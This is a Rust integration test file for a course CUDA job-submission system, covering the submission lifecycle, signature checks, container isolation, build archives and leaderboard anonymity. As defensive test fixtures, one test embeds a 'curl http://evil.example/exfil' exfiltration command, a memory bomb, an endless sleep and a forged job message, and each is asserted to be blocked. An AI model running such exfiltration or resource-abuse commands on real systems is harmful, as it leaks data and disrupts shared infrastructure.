//! Cross-crate integration: the full student lifecycle and the security
//! posture the paper's design promises.

use rai::auth::sign_request;
use rai::core::client::{ProjectDir, SubmitError, SubmitMode};
use rai::core::protocol::{JobKind, JobRequest};
use rai::core::system::{RaiSystem, SystemConfig};
use rai::db::doc;

fn system() -> RaiSystem {
    RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    })
}

#[test]
fn student_lifecycle_run_then_final() {
    let mut sys = system();
    let creds = sys.register_team("lifecycle", &["a", "b"]);

    // Iterate: a broken build first.
    let mut broken = ProjectDir::sample_cuda_project();
    broken.tree.insert("main.cu", &b"RAI_SYNTAX_ERROR"[..]).unwrap();
    let r1 = sys.submit(&creds, &broken).unwrap();
    assert!(!r1.success);
    assert!(r1.log.iter().any(|l| l.contains("error:")));

    // Fix it, run again.
    let fixed = ProjectDir::sample_cuda_project();
    let r2 = sys.submit(&creds, &fixed).unwrap();
    assert!(r2.success);
    // The dev run used the small dataset: fast.
    assert!(r2.internal_timer_secs.unwrap() < 0.2);

    // Final submission without required files is rejected client-side,
    // naming the first file it lacks.
    match sys.submit_final(&creds, &fixed) {
        Err(SubmitError::MissingRequiredFile("USAGE")) => {}
        other => panic!("expected missing USAGE, got {other:?}"),
    }
    let mut usage_only = fixed.clone();
    usage_only.tree.insert("USAGE", &b"make; ./ece408\n"[..]).unwrap();
    match sys.submit_final(&creds, &usage_only) {
        Err(SubmitError::MissingRequiredFile("report.pdf")) => {}
        other => panic!("expected missing report.pdf, got {other:?}"),
    }

    // With the report attached it lands on the leaderboard.
    let r3 = sys.submit_final(&creds, &fixed.with_final_artifacts()).unwrap();
    assert!(r3.success);
    assert_eq!(sys.rankings().rank_of("lifecycle"), Some(1));

    // Database has all three submissions, one ranking row.
    assert_eq!(sys.db().read().submissions.len(), 3);
    assert_eq!(sys.db().read().rankings.len(), 1);
    // The failed build is recorded as unsuccessful.
    assert_eq!(
        sys.db()
            .read()
            .submissions
            .count(&doc! { "success" => false }),
        1
    );
}

#[test]
fn forged_signature_is_rejected_by_workers() {
    let mut sys = system();
    let creds = sys.register_team("honest", &[]);
    let client = sys.client_for(&creds);
    let pending = client
        .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
        .unwrap();
    let job_id = pending.job_id;

    // An attacker replays the job message with a doctored team name but
    // cannot re-sign it.
    let stored = sys
        .store()
        .list("rai-uploads", "")
        .unwrap()
        .into_iter()
        .next()
        .unwrap();
    let mut forged = JobRequest {
        job_id: job_id + 1000,
        access_key: creds.access_key.clone(),
        signature: "0".repeat(64),
        team: "attacker".to_string(),
        upload_bucket: "rai-uploads".to_string(),
        upload_key: stored.key,
        build_yml: rai::core::spec::DEFAULT_BUILD_YML.to_string(),
        kind: JobKind::Submit,
    };
    // Even a *valid-format* signature under the wrong key fails.
    forged.signature = sign_request("not-the-secret", &creds.access_key, &forged.signing_payload());
    sys.broker()
        .publish(rai::core::protocol::routes::TASK_TOPIC, forged.encode())
        .unwrap();

    let outcomes = sys.drain();
    assert_eq!(outcomes.len(), 2);
    let legit = outcomes.iter().find(|o| o.job_id == job_id).unwrap();
    let attack = outcomes.iter().find(|o| o.job_id != job_id).unwrap();
    assert!(legit.success);
    assert!(!attack.success, "forged job must be rejected");
    // The attack never reached the ranking table.
    assert_eq!(sys.db().read().rankings.len(), 0);
}

#[test]
fn container_isolation_blocks_abuse() {
    let mut sys = system();
    let creds = sys.register_team("abuser", &[]);

    // Network exfiltration attempt.
    let mut netcat = ProjectDir::sample_cuda_project();
    netcat
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - curl http://evil.example/exfil\n"[..],
        )
        .unwrap();
    let r = sys.submit(&creds, &netcat).unwrap();
    assert!(!r.success);
    assert!(r.log.iter().any(|l| l.contains("network access is disabled")));

    // Memory bomb: 9 GB against the 8 GB cap.
    let bomb = ProjectDir::cuda_project_with_perf(100.0, 0.9, 9_000);
    let r = sys.submit(&creds, &bomb).unwrap();
    assert!(!r.success);
    assert!(r.log.iter().any(|l| l.contains("Killed")));

    // Sleep forever: the 1-hour lifetime kills it.
    let mut sleeper = ProjectDir::sample_cuda_project();
    sleeper
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - sleep 999999\n"[..],
        )
        .unwrap();
    let r = sys.submit(&creds, &sleeper).unwrap();
    assert!(!r.success);
}

#[test]
fn build_outputs_round_trip_through_file_server() {
    let mut sys = system();
    let creds = sys.register_team("artifacts", &[]);
    let receipt = sys.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
    assert!(receipt.success);
    // Download the /build archive via the presigned URL the worker
    // published — no file-server credentials needed.
    let url = receipt.build_url.expect("worker published a build URL");
    assert!(url.starts_with("rai-s3://rai-builds/"));
    let obj = sys.store().get_presigned(&url).expect("presigned URL valid");
    let tree = rai::archive::restore(&obj.data).expect("archive valid");
    // The nvprof timeline the default build produces is in there.
    assert!(tree.contains("timeline.nvprof"));
    assert!(tree.contains("ece408"));
    assert!(tree.contains("Makefile"));
}

#[test]
fn a_build_path_past_the_bound_still_leaves_a_readable_build_archive() {
    // A container path's length is a `u16` on the wire: a /build path
    // of 70 000 bytes, once written, was an archive no reader could
    // open behind a job reporting a download URL for it. The copy is
    // refused instead, and the archive of what /build holds restores.
    let mut sys = system();
    let creds = sys.register_team("long-paths", &[]);
    let mut project = ProjectDir::sample_cuda_project();
    let long = "a".repeat(70_000);
    let build_yml = [
        "rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n",
        "    - cmake /src\n    - make\n",
        &format!("    - cp -r /src /build/{long}\n"),
    ]
    .concat();
    project.tree.insert("rai-build.yml", build_yml).unwrap();
    let receipt = sys.submit(&creds, &project).unwrap();
    assert!(!receipt.success, "the refused copy fails the build");
    assert!(
        receipt.log.iter().any(|l| {
            l.contains("cp: cannot create '/build/aaa") && l.ends_with("File name too long")
        }),
        "log: {:?}",
        receipt.log.iter().map(|l| l[..l.len().min(80)].to_string()).collect::<Vec<_>>()
    );
    let url = receipt.build_url.expect("the worker published a build URL");
    let obj = sys.store().get_presigned(&url).expect("presigned URL valid");
    let tree = rai::archive::restore(&obj.data).expect("the build archive restores");
    assert!(tree.contains("ece408") && tree.contains("Makefile"));
    assert!(tree.paths().all(|p| p.len() <= rai::archive::tree::MAX_PATH_BYTES));
}

#[test]
fn student_build_file_with_block_scalar_and_chains() {
    // A power user's rai-build.yml: a literal block scalar holding a
    // chained one-liner, plus text-tool steps.
    let mut sys = system();
    let creds = sys.register_team("power-user", &[]);
    let mut project = ProjectDir::sample_cuda_project();
    project
        .tree
        .insert(
            "rai-build.yml",
            &b"rai:\n  version: 0.1\n  image: webgpu/rai:root\ncommands:\n  build:\n    - |-\n      echo \"one-liner build\" && cmake /src && make\n    - grep global /src/main.cu\n    - ./ece408 /data/test10.hdf5 /data/model.hdf5\n"[..],
        )
        .unwrap();
    let receipt = sys.submit(&creds, &project).unwrap();
    assert!(receipt.success, "log: {:#?}", receipt.log);
    assert!(receipt.log.iter().any(|l| l.contains("one-liner build")));
    assert!(receipt.log.iter().any(|l| l.contains("__global__")));
    assert!(receipt.internal_timer_secs.is_some());
}

#[test]
fn leaderboard_is_anonymized_between_teams() {
    let mut sys = system();
    for (team, ms) in [("one", 500.0), ("two", 800.0)] {
        let creds = sys.register_team(team, &[]);
        let p = ProjectDir::cuda_project_with_perf(ms, 0.9, 1024).with_final_artifacts();
        sys.submit_final(&creds, &p).unwrap();
    }
    let view = sys.rankings().view_for("two");
    assert_eq!(view.len(), 2);
    assert!(view[0].display_name.starts_with("anonymous-"));
    assert_eq!(view[1].display_name, "two");
    // Times are still visible (the paper shows anonymized runtimes).
    assert!(view[0].runtime_secs < view[1].runtime_secs);
}
